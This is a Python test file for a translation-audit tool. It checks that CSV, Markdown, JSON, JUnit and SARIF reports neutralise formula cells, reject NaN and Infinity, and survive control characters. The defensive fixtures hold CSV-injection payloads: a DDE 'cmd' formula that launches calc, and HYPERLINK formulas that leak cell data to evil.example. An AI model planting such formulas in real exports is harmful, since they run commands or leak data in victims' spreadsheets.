"""Outputs other programs misread: CSV cells a spreadsheet executes, JSON that is not JSON,
Markdown tables broken by raw line ends, XML/JSON broken by control characters or lone surrogates.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest

from tests.hostile.conftest import Work
from tests.hostile.helpers import Run, assert_refused

# typer's own range check refuses --min-confidence nan (nan is not <= 1) with a multi-line usage
# box: option parsing is issue 14's (usage errors as one line)

DANGEROUS_FIRST = ("=", "+", "-", "@", "\t", "\r")
# Values the CSV outputs must neutralise, by column: the findings table carries doc_id and seg_id,
# the segments table also source and target.
HOSTILE_ROWS = [
    {"id": "=1+1", "doc_id": "@SUM(A1)", "source": "+拜登说。", "target": "-Bayeng said."},
    {
        "id": "\t2",
        "doc_id": "=cmd|' /C calc'!A0",
        "source": "\r拜登说。",
        "target": '=HYPERLINK("http://evil.example/?leak="&A1,"Bayeng")',
    },
]


def _jsonl(path: Path, rows: list[dict]) -> Path:
    path.write_text("".join(json.dumps(row, ensure_ascii=True) + "\n" for row in rows), encoding="utf-8")
    return path


def _strict_json(text: str):
    """json.loads that refuses NaN, Infinity and -Infinity: RFC 8259 has no such values."""

    def refuse(name: str):
        raise ValueError(f"non-finite number {name} in a JSON report")

    return json.loads(text, parse_constant=refuse)


# --- CSV formula injection --------------------------------------------------------------------


def _csv_cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _assert_neutralised(rows: list[dict[str, str]], columns: tuple[str, ...], expected: list[dict]) -> None:
    """OWASP's CSV-injection advice: a cell beginning with = + - @ tab or CR gets a single quote
    prepended (and the cell is quoted as CSV needs), so a spreadsheet shows it as text. The expected
    form is therefore exactly ``"'" + value``; no cell of the file may begin with those characters."""
    for row in rows:
        for column, value in row.items():
            assert not (value or "").startswith(DANGEROUS_FIRST), f"{column} cell {value!r} is live in a spreadsheet"
    by_id = {row.get("seg_id"): row for row in rows}
    for original in expected:
        row = by_id.get("'" + original["id"])
        assert row is not None, f"no row whose seg_id is the neutralised {original['id']!r}: {list(by_id)}"
        for column in columns:
            key = {"id": "seg_id"}.get(column, column)
            assert row[key] == "'" + original[column], (key, row[key])


def test_csv_report_files_neutralise_formula_cells(work: Work) -> None:
    _jsonl(work.dir / "inj.jsonl", HOSTILE_ROWS)
    run = work.audit("inj.jsonl", "-f", "csv", "--report-dir", "out")
    assert run.returncode == 1, run.describe()
    findings = _csv_cells((work.dir / "out" / "report.csv").read_bytes().decode("utf-8"))
    segments = _csv_cells((work.dir / "out" / "report.segments.csv").read_bytes().decode("utf-8"))
    assert len(findings) == 2 and len(segments) == 2
    _assert_neutralised(findings, ("id", "doc_id"), HOSTILE_ROWS)
    _assert_neutralised(segments, ("id", "doc_id", "source", "target"), HOSTILE_ROWS)


def test_csv_on_stdout_neutralises_formula_cells(work: Work) -> None:
    _jsonl(work.dir / "inj.jsonl", HOSTILE_ROWS)
    run = work.audit("inj.jsonl", "-f", "csv")
    assert run.returncode == 1, run.describe()
    _assert_neutralised(_csv_cells(run.text), ("id", "doc_id"), HOSTILE_ROWS)


@pytest.mark.parametrize("suffix", [".csv", ".tsv"])
def test_csv_glossary_written_by_convert_is_neutralised_and_reads_back_whole(work: Work, suffix: str) -> None:
    """Every CSV mtaudit writes: a glossary converted (or mined) to CSV is opened in spreadsheets
    too. The quote is taken off again when mtaudit reads the glossary, so nothing is lost."""
    (work.dir / "f.yaml").write_text(
        'entries:\n  - id: "=id"\n    source: [拜登]\n    target: "+Biden"\n'
        '    forbidden: ["-Bayeng", "@Baiden", "\'=quoted"]\n    note: "=HYPERLINK(\\"http://evil.example\\")"\n',
        encoding="utf-8",
    )
    written = work.cli("glossary", "convert", "f.yaml", f"f{suffix}")
    assert written.returncode == 0, written.describe()
    rows = list(
        csv.reader(
            io.StringIO((work.dir / f"f{suffix}").read_text(encoding="utf-8"), newline=""),
            delimiter="\t" if suffix == ".tsv" else ",",
        )
    )
    for cell in (cell for row in rows for cell in row):
        assert not cell.startswith(DANGEROUS_FIRST), f"cell {cell!r} is live in a spreadsheet"
    back = work.cli("glossary", "convert", f"f{suffix}", "back.yaml")
    assert back.returncode == 0, back.describe()
    import yaml

    entry = yaml.safe_load((work.dir / "back.yaml").read_text(encoding="utf-8"))["entries"][0]
    assert (entry["id"], entry["target"], entry["forbidden"], entry["note"]) == (
        "=id",
        "+Biden",
        ["-Bayeng", "@Baiden", "'=quoted"],
        '=HYPERLINK("http://evil.example")',
    )


# --- non-finite numbers -----------------------------------------------------------------------


@pytest.mark.parametrize(
    "toml, key",
    [
        pytest.param("min_confidence = nan\n", "min_confidence", id="min_confidence-nan"),
        pytest.param("[gate.reference]\nmin_chrf = nan\n", "min_chrf", id="min_chrf-nan"),
        pytest.param("[gate.mt]\nmax_ter = -inf\n", "max_ter", id="max_ter-minus-inf"),
        pytest.param("[gate.terms]\nmin_success_rate = inf\n", "min_success_rate", id="min_success_rate-inf"),
    ],
)
def test_non_finite_configuration_is_refused(work: Work, toml: str, key: str) -> None:
    (work.dir / "mtaudit.toml").write_text(toml, encoding="utf-8")
    tree = work.tree()
    run = work.audit("a.tsv", "--config", "mtaudit.toml")
    if run.returncode != 2 and run.stdout:
        _strict_json(run.text)  # fails first where a NaN was written into the report
    assert_refused(run, "mtaudit.toml", key)
    tree.assert_unchanged()


def test_non_finite_min_confidence_option_is_refused(work: Work) -> None:
    assert_refused(work.audit("a.tsv", "--min-confidence", "nan"), "--min-confidence")


def test_non_finite_significance_level_of_compare_is_refused(work: Work) -> None:
    assert_refused(work.cli("compare", "a.tsv", "a.tsv", "-g", "g.yaml", "--alpha", "nan"), "--alpha")


def test_non_finite_number_in_an_extra_jsonl_key_is_refused(work: Work) -> None:
    """A key mtaudit does not read still makes the line something that is not JSON."""
    (work.dir / "x.jsonl").write_text(
        '{"source": "拜登说。", "target": "Biden said.", "score": {"bleu": NaN}}\n', encoding="utf-8"
    )
    assert_refused(work.audit("x.jsonl"), "x.jsonl:1", "score")


@pytest.mark.parametrize("literal", ["NaN", "Infinity", "-Infinity"])
def test_non_finite_input_value_is_refused_naming_file_line_and_field(work: Work, literal: str) -> None:
    (work.dir / "n.jsonl").write_text(
        '{"source": "拜登说。", "target": "Biden said."}\n'
        f'{{"source": "拜登说。", "target": "Biden said.", "reference": {literal}}}\n',
        encoding="utf-8",
    )
    run = work.audit("n.jsonl")
    if run.returncode != 2 and run.stdout:
        _strict_json(run.text)
    assert_refused(run, "n.jsonl:2", "reference")


def test_json_report_of_awkward_but_valid_input_is_strict_json(work: Work) -> None:
    """Empty references and targets give degenerate scores: still numbers or null, never NaN."""
    _jsonl(
        work.dir / "e.jsonl",
        [{"source": "拜登说。", "target": "", "reference": ""}, {"source": "。", "target": ".", "reference": ""}],
    )
    run = work.audit("e.jsonl")
    assert run.returncode in (0, 1), run.describe()
    report = _strict_json(run.text)
    assert report["schema"] == "mtaudit.report/1"


# --- Markdown tables --------------------------------------------------------------------------

# CommonMark ends a line at LF, CR or CRLF: a raw CR inside a cell ends the table row there.
LINE_END = re.compile(r"\r\n|\r|\n")
UNESCAPED_PIPE = re.compile(r"(?<!\\)\|")


def _tables(markdown: str) -> list[list[str]]:
    tables, current = [], []
    for line in LINE_END.split(markdown):
        if line.startswith("|"):
            current.append(line)
        elif current:
            tables.append(current)
            current = []
    return tables + ([current] if current else [])


def _assert_tables_whole(markdown: str) -> None:
    assert "\r" not in markdown, "a raw CR in the Markdown report"
    for table in _tables(markdown):
        widths = {len(UNESCAPED_PIPE.findall(row)) for row in table}
        assert len(widths) == 1, "rows of one table have different cell counts:\n" + "\n".join(table)


def test_markdown_tables_survive_line_ends_and_pipes_in_text(work: Work) -> None:
    """Glossary text (a PR may change the glossary too) and target text with CR, LF and pipes."""
    (work.dir / "gp.yaml").write_text(
        'entries:\n  - id: "bi|den"\n    source: [拜登]\n    target: "Bi|den\\r\\nJr"\n'
        '    forbidden: ["Bay|eng", "Bay\\reng", "Bay\\neng"]\n    type: person\n',
        encoding="utf-8",
    )
    _jsonl(
        work.dir / "p|q.jsonl",
        [
            {"id": "1|x", "doc_id": "d|1\r\n| x |", "source": "拜登说。", "target": "Bay|eng said."},
            {"id": "2\r3", "doc_id": "d|1\r\n| x |", "source": "拜登说。", "target": "Bay\reng said."},
            {"id": "4\n5", "doc_id": "d2", "source": "拜登说。", "target": "Bay\neng said |\r\n| x |."},
        ],
    )
    run = work.audit("p|q.jsonl", "-g", "gp.yaml", "-f", "markdown")
    assert run.returncode == 1, run.describe()
    _assert_tables_whole(run.text)


# --- JUnit / SARIF / JSON with control characters and lone surrogates -------------------------

CONTROL_ROWS = [
    {
        "id": "c\u0001\u001b",
        "doc_id": "d\u000b\u000c",
        "source": "拜登说。\u0007",
        "target": "Bayeng\u0001 said \u001b[31m\u0000.",
    }
]
# ensure_ascii writes these as \ud800 escapes: valid JSON text that decodes to a lone surrogate
SURROGATE_ROWS = [{"id": "s\ud800", "doc_id": "d\udfff", "source": "拜登说。", "target": "Bayeng said \udc00."}]


def _assert_valid(run: Run, fmt: str) -> None:
    assert run.returncode == 1 and "Traceback" not in run.stderr, run.describe()
    data = run.stdout
    text = data.decode("utf-8")  # strict: a surrogate cannot be in UTF-8
    if fmt == "junit":
        from lxml import etree

        etree.fromstring(data)  # XML 1.0 allows no C0 control but tab, LF, CR, even as &#1;
    else:
        report = _strict_json(text)
        assert not re.search(r"\\ud[89a-f][0-9a-f]{2}", text, re.IGNORECASE) or _pairs_only(text), (
            "an escaped lone surrogate in the JSON"
        )
        assert report


def _pairs_only(text: str) -> bool:
    return not re.search(
        r"\\ud[89ab][0-9a-f]{2}(?!\\ud[c-f])|(?<!\\ud[89ab][0-9a-f]{2})\\ud[c-f][0-9a-f]{2}", text, re.IGNORECASE
    )


@pytest.mark.parametrize("fmt", ["junit", "sarif", "json"])
def test_control_characters_keep_reports_valid(work: Work, fmt: str) -> None:
    _jsonl(work.dir / "ctl.jsonl", CONTROL_ROWS)
    _assert_valid(work.audit("ctl.jsonl", "-f", fmt), fmt)


@pytest.mark.parametrize("fmt", ["junit", "sarif", "json"])
def test_lone_surrogates_keep_reports_valid_or_are_refused(work: Work, fmt: str) -> None:
    """A lone surrogate is not a character: reading it as U+FFFD (audited, valid report) or refusing
    the line (exit 2 naming file and line) both hold the contract; a traceback does not."""
    _jsonl(work.dir / "sur.jsonl", SURROGATE_ROWS)
    run = work.audit("sur.jsonl", "-f", fmt)
    if run.returncode == 2:
        assert_refused(run, "sur.jsonl:1")
    else:
        _assert_valid(run, fmt)
